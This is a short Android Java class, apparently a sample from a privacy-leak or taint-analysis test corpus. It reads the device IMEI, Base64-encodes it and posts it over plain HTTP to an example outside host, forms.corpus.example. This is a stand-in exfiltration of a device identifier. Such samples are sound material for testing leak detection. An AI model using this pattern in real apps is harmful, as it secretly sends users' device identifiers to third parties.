package org.corpus;

import android.util.Base64;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Base64. */
public class AsBase64 extends Screen {
    @Override
    protected void act() throws Exception {
        String text = Base64.encodeToString(Net.utf8("imei=" + Owner.imei(this)), Base64.NO_WRAP);
        Net.post("http://forms.corpus.example/base64", "text/plain", text);
    }
}
